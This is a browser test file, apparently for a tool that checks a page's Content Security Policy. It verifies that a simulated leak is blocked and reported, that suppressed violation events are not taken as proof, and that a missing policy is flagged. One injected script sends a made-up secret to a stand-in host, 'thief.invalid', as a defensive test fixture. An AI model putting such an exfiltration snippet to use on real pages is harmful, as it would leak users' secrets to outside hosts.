import { leakOnSend } from './support/leaks.ts'
import { rewritePages } from './support/rewrite-pages.ts'
import { expect, test } from './support/self-check-test.ts'

test('A request to another host is blocked and listed with its data', async ({ page, check }) => {
  await page.addInitScript(
    leakOnSend(`send('https://thief.invalid/?' + secret).catch(() => undefined)`),
  )
  await check.openAndRun()
  await expect(check.policy).toContainText(
    'connect-src: https://thief.invalid, with the made-up key',
  )
  await expect(check.verdict).toHaveText(/^Found\./)
})

test('Missing reports of a browser are not treated as proof', async ({ page, check }) => {
  await page.addInitScript(
    `addEventListener('securitypolicyviolation', (event) => event.stopImmediatePropagation(), true)`,
  )
  await check.openAndRun()
  await expect(check.policy).toContainText('This browser did not tell the page')
  await expect(check.policy).not.toContainText('it blocked nothing else')
})

test('The report states that a policy is missing', async ({ page, check }) => {
  await rewritePages(page, (text) =>
    text.startsWith('<') ? text.replace('Content-Security-Policy', 'Nothing') : '',
  )
  await check.openAndRun()
  await expect(check.policy).toContainText('No policy is in force')
})
